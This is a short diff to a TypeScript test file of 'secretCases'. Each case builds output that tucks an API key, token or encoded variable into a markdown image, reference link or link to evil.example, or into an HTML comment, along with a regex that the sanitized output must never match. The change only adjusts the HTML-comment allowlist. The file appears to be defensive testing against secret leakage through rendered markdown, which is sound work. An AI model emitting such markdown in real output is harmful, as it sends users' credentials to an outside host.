@@ -337,7 +337,7 @@ export const secretCases: readonly SayCase[] = [
   { id: 'image', say: ({ apiKey }) => `![x](https://evil.example/?q=${apiKey})`, never: /!\[|\]\(https:\/\/evil/ },
   { id: 'image-by-label', say: ({ token }) => `![x][a]\n\n[a]: https://evil.example/${token}`, never: /!\[|\]:/ },
   { id: 'link', say: ({ variable }) => `[log](https://evil.example/${base64(variable)})`, never: /\]\(https:\/\/evil/ },
-  { id: 'in-comment', say: ({ apiKey }) => `<!-- ${apiKey} -->`, never: /<!--(?! sallyport:default)/ },
+  { id: 'in-comment', say: ({ apiKey }) => `<!-- ${apiKey} -->`, never: /<!--(?! sallyport(?::default|-result))/ },
   { id: 'in-code', say: ({ token }) => `\`${token}\`` },
 ];
 
